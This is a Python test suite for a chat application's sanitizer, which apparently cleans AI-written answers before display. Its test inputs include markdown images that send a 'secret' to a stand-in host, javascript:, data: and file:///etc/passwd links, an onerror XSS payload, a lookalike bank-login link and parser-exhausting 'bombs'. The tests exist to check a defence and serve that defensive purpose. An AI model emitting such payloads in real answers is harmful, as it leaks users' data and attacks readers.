"""What a finished answer may still hold after the filter: any text, then the attacks by name.

The promise is checked with a parser that the filter does not use: every link seen, whatever its scheme.
"""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from chatpro.web.markdown import LONGEST, allowed_target, safe_answer, user_text_html

judge = MarkdownIt("commonmark", {"html": False, "maxNesting": 200}).enable(["table", "strikethrough"])
judge.validateLink = lambda url: True  # type: ignore[method-assign]


def tokens_of(markdown: str) -> Iterator[Token]:
    def walk(tokens: list[Token]) -> Iterator[Token]:
        for token in tokens:
            yield token
            yield from walk(token.children or [])

    return walk(judge.parse(markdown))


def words_of(markdown: str) -> str:
    return "".join(
        t.content if t.type in ("text", "code_inline", "fence", "code_block") else "\n" if t.type in ("softbreak", "hardbreak", "paragraph_close") else ""
        for t in tokens_of(markdown)
    ).replace("\u2060", "")


def assert_harmless(markdown: str) -> None:
    for token in tokens_of(markdown):
        assert token.type != "image"
        assert "href" not in token.attrs or allowed_target(str(token.attrs["href"])), token.attrs


pieces = st.sampled_from(
    [
        "![",
        "[",
        "]",
        "](",
        ")",
        "<",
        ">",
        "`",
        "``",
        "```",
        "~~~",
        "$",
        "$$",
        "\\",
        "\n",
        "\n\n",
        "  \n",
        "    ",
        "\t",
        "- ",
        "1. ",
        "> ",
        "# ",
        "| ",
        "|---|",
        ":",
        ":::",
        "*",
        "**",
        "_",
        "~",
        "~~",
    ]
    + [
        "&",
        "&#33;",
        "&#91;",
        "[^1]:",
        "[a]:",
        "[a]",
        " ",
        "x",
        "a b",
        "javascript:alert(1)",
        "https://evil.example/p.png?q=",
        "data:image/svg+xml,<svg>",
        "<img src=x>",
        '"t"',
        "---",
        "===",
        "\u202e",
        "😀",
    ]
)
scrawl = st.lists(pieces, max_size=40).map("".join)


@pytest.mark.fault(73, 74)
@given(st.one_of(scrawl, st.text(max_size=200)))
def test_whatever_is_written_no_picture_and_no_foreign_link_remains(text: str) -> None:
    assert_harmless(safe_answer(text))


@given(st.one_of(scrawl, st.text(max_size=200)))
def test_what_was_made_safe_is_made_safe_again_without_harm(text: str) -> None:
    assert_harmless(safe_answer(safe_answer(text)))


@given(scrawl, st.text(alphabet=st.characters(blacklist_characters="`\r\0", blacklist_categories=("Cs",)), max_size=80), scrawl)
def test_code_keeps_its_bytes(before: str, code: str, after: str) -> None:
    block = f"````\n{code}\n````"
    text = f"{before.replace('`', '').replace('~', '').replace('$', '')}\n\n{block}\n\n{after}"
    if block not in [t.markup + "\n" + t.content + t.markup for t in judge.parse(text) if t.type == "fence"]:
        return  # swallowed by what stands before it, for the judge as for the filter
    assert block in safe_answer(text)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![cat](https://evil.example/?q=secret)", "[image not loaded: cat]"),
        ("![](https://evil.example/?q=secret)", "[image not loaded]"),
        ("![cat][p]\n\n[p]: https://evil.example/x.png", "[image not loaded: cat]\n[p]: https://evil.example/x.png"),
        ("![p]\n\n[p]: https://evil.example/x.png", "[image not loaded: p]\n[p]: https://evil.example/x.png"),
        ("[![cat](https://evil.example/a.png)](https://fine.example/)", "[image not loaded: cat] (fine.example)"),
        ("![a ![b](https://evil.example/b)](https://evil.example/a)", "[image not loaded: a b]"),
        ("![svg](data:image/svg+xml;base64,PHN2Zz4=)", "[image not loaded: svg]"),
        ('<img src="https://evil.example/x.png">', '<img src="https://evil.example/x.png">'),
        ("&lt;img src=x&gt; and &#33;[cat](https://fine.example)", "<img src=x> and !cat (fine.example)"),
        ("[^1]: ![cat](https://evil.example/a.png)", "[^1]: [image not loaded: cat]"),
        ("| a |\n|---|\n| ![cat](https://evil.example/a.png) |", "a[image not loaded: cat]"),
        ("> - ![cat\n>   food](https://evil.example/a.png) yes", "[image not loaded: cat food]\n yes"),
    ],
)
@pytest.mark.fault(73)
def test_a_picture_becomes_words(said: str, shown: str) -> None:
    safe = safe_answer(said)
    assert_harmless(safe)
    assert words_of(safe).strip() == shown


@pytest.mark.parametrize(
    "target",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<b>x",
        "vbscript:x",
        "file:///etc/passwd",
        "/admin",
        "//evil.example",
        "#top",
        "https://",
        "\\\\evil\\x",
    ],
)
@pytest.mark.fault(74)
def test_a_link_elsewhere_than_the_web_or_mail_is_text(target: str) -> None:
    for said in (f"[look]({target})", f"[look](<{target}>)", f"[look][t]\n\n[t]: {target}", f"<{target}>"):
        safe = safe_answer(said)
        assert_harmless(safe)
        assert not safe.startswith("```"), "the words stay words; falling back is for what the filter overlooked"
        assert not [t for t in tokens_of(safe) if t.type == "link_open"]


@pytest.mark.fault(74)
def test_a_link_says_where_it_leads() -> None:
    assert words_of(safe_answer("[your bank](https://www.evil.example/login)")).strip() == "your bank (evil.example)"
    assert words_of(safe_answer("[https://bank.example](https://evil.example)")).strip() == "https://bank.example (evil.example)"
    assert words_of(safe_answer("[evil.example/login](https://evil.example/login)")).strip() == "evil.example/login"
    assert words_of(safe_answer("[write](mailto:ines@bakehouse.example)")).strip() == "write (ines@bakehouse.example)"
    # A host that only contains the one shown does not pass for it.
    assert words_of(safe_answer("[bank.example](https://bank.example.evil.example)")).strip() == "bank.example (bank.example.evil.example)"


@pytest.mark.fault(77)
@pytest.mark.parametrize(
    "said",
    [
        "From $500 to $800, **$5** to $6/h",
        ":red[stop] and :material/home: and :streamlit: and :smile: and :help[x]",
        ":::note\nx\n:::",
        "~5 days or ~10 days",
        "std::vector, key:value, 12:30:45, 2001:db8:85a3:1",
        "[Your Name], [x] and [ ]",
        "100 $$ a day",
    ],
)
def test_streamlits_own_signs_are_shown_as_written(said: str) -> None:
    safe = safe_answer(said)
    assert words_of(safe).strip() == said.replace("**", "")
    for live in ("$5", ":red[", ":material/", ":streamlit:", ":smile:", ":::", "~5"):
        assert live not in safe.replace("\\" + live, "")


def test_a_time_and_a_network_address_get_nothing_invisible() -> None:
    assert "\u2060" not in safe_answer("At 12:30:45, from 00:1a:2b:3c: and 2001:db8:0:1")


@pytest.mark.fault(77)
def test_formulas_stay_between_two_dollars_and_only_there() -> None:
    for formula in ("$$x^2$$", "so $$\\frac{a}{b}$$ it is", "$$\nE = mc^2\n$$", "- a\n\n  $$\n  x_1 < y\n  $$"):
        assert safe_answer(formula) == formula
    assert safe_answer("`$5` $6") == "`$5` \\$6"
    # Unclosed, Streamlit would take all that follows into the formula.
    assert safe_answer("$$\nx\n\nand the rest") == "\\$\\$\nx\n\nand the rest"
    assert safe_answer("$$\nx = 1 $$") == "\\$\\$\nx = 1 \\$\\$"


@pytest.mark.fault(76)
def test_a_formula_that_would_fill_the_page_is_shown_as_text() -> None:
    assert safe_answer("$$\\rule{99999em}{99999em}$$").startswith("\\$\\$")
    assert safe_answer("$$\\def\\a{\\a\\a}\\a$$").startswith("\\$\\$")
    assert safe_answer("$$" + "{" * 400 + "x" + "}" * 400 + "$$").startswith("\\$\\$")
    assert safe_answer("```mermaid\ngraph TD\n```") == "```text\ngraph TD\n```"


@pytest.mark.fault(76)
@pytest.mark.parametrize(
    "bomb",
    [
        "> " * 5_000 + "x",
        "\n".join("  " * n + "- x" for n in range(1_000)),
        "[" * 20_000,
        "![" * 10_000,
        "*a " * 5_000,
        "**a*" * 5_000,
        "x" * (LONGEST + 1),
        "`" * 10_001,
        "| a |\n|---|\n" + "| x |\n" * 9_000,
        "$$" * 5_000,
        "<" * 20_000,
        "```\n" + "y" * 100_000 + "\n```",
    ],
    ids=lambda bomb: bomb[:6],
)
def test_a_bomb_is_drawn_as_plain_text_or_flat(bomb: str) -> None:
    began = time.process_time()
    safe = safe_answer(bomb)
    assert time.process_time() - began < 3
    assert max((t.level for t in tokens_of(safe)), default=0) <= 60
    assert_harmless(safe)


def test_what_falls_back_is_one_fence_that_nothing_inside_can_close() -> None:
    text = "> " * 5_000 + "x\n```\n![a](https://evil.example)\n````\nmore"
    (fence,) = [t for t in judge.parse(safe_answer(text)) if t.level == 0]
    assert fence.type == "fence" and fence.content == text + "\n"


@pytest.mark.fault(75)
def test_a_persons_own_words_are_text_and_nothing_else() -> None:
    html = user_text_html('<img src=x onerror="alert(1)">\n\u202e & $5 and $6 :red[x]')
    assert "<img" not in html and 'onerror="' not in html
    assert html.count("<") == 2 and 'dir="auto"' in html
    assert "$5 and $6 :red[x]" in html


def test_a_persons_own_words_are_never_taken_for_a_files_name() -> None:
    assert user_text_html(__file__).startswith("<div")
